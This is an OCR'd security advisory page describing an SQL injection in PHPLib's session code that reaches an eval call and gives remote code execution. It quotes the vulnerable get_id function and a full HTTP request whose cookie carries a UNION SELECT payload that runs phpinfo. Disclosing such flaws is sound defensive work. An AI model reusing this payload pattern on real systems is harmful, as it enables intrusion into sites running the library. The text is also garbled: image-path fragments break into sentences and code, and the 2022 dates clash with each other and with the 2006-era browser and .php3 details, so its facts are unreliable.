Friday February 15, 2022
Most Viewed Items
  1 PHPXMLRPC Library Remote Code Execution
  2 Mambo Multiple Vulnerabilities
  3 MySQL Eventum Multiple Vulnerabilities
  4 Multiple Invision Power Board Vulnerabilities
  5 Geeklog Remote Code Execution
  6 XMB Forums Multiple Vulnerabilities
  7 Gallery 2 Multiple Vulnerabilities
  8 phpRPC Library Remote Code Execution
  9 RunCMS Multiple Vulnerabilities
10 Kayako LiveResponse Multiple Vulnerabilities
Quick Search
You can use the form below to search our site. Just enter the keywords to search.
Home Archives Research
PHPLib Remote Code Execution
March 5, 2022
Vendor : PHPLib
Version : PHPLib <= 7.4
Risk : Remote Code Execution

The PHP Base Library aka PHPLib is a toolkit for PHP developers supporting them in the development of Web applications. The phpLib codebase can be found in a number of applications available today. Unfortunately some of the session emulation code is vulnerable to SQLInjection issues that in a worst case scenario can lead to remote code execution by using UNION and selecting arbitrary php code into an eval call. A new version og PHPLib has been released and users should upgrade their PHPLib libraries as soon as possible.

Remote Code Execution:
There are some serious security issues in phplib's session handling that may allow an attacker to perform a range of attacks such as SQL Injection, and/or Remote Code Execution.
## Propagate the session id according to mode and lifetime.
## Will create a new id if necessary. To take over abandoned sessions,
## one may provide the new session id as a parameter (not recommended).
function get_id($id = "") {
$this->name = $this->cookiename==""?$this->classname:$this->cookiename;
if ( "" == $id ) {
  switch ($this->mode) {
    case "get":
      $id = isset($HTTP_GET_VARS[$this->name]) ?
            $HTTP_GET_VARS[$this->name] :
            ( isset($HTTP_POST_VARS[$this->name]) ?
            $HTTP_POST_VARS[$this->name] :
            "") ;
    case "cookie":
      $id = isset($HTTP_COOKIE_VARS[$this->name]) ?
            $HTTP_COOKIE_VARS[$this->name] : "";
      die("This has not been coded yet.");
### do not accept user provided ids for creation
if($id != "" && $this->block_alien_sid) {   # somehow an id was provided by the user
   if($this->that->ac_get_value($id, $this->name) == "") {
      # no - the id doesn't exist in the database: Ignore it!
      $id ="";

The above code is from @ lines 85-121. The variable $id gets it's values from either GET or COOKIE and is never made safe before being passed to the function ac_get_value() which uses the variable in a query, thus allowing for SQL Injection. However, it is possible to manipulate the query in a way that php code is returned and passed to a vulnerable eval call.
GET /phplib/pages/index.php3 HTTP/1.1
User-Agent: Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv: Gecko/20060111 Firefox/
Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5
Accept-Language: en-us,en;q=0.5
Accept-Encoding: gzip,deflate
Accept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7
Keep-Alive: 300
Connection: keep-alive
Cookie: Example_Session=' UNION SELECT'cGhwaW5mbygpOw=='/*
If-Modified-Since: Sat, 18 Feb 2022 18:24:34 GMT
For example, the above request made to the index.php3 script that is shipped with phplibwill successfully execute thephpinfo call.

PHPLib 7.4a hasbeen released to address these issues.James Bercegay of the GulfTechSecurity Research Team